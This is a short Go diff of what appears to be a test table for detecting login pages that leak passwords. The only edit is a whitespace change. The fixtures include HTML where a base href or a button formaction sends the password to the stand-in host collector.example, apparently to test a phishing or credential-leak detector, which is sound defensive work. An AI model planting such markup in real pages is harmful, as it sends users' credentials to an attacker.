@@ -27,7 +27,7 @@ func pages() []Behaviour {
 			answer: shows(`<base href="https://collector.example/">` + asks(`action="login"`)),
 		},
 		{Name: "page.formaction", Story: "Its button sends the password elsewhere.", answer: shows(
-			`<form method="post"><input name="username"><input type="password" name="p">`+
+			`<form method="post"><input name="username"><input type="password" name="p">` +
 				`<button formaction="https://collector.example/">Log in</button></form>`)},
 		{
 			Name: "page.by-get", Story: "Its form sends the password in a URL, elsewhere.",
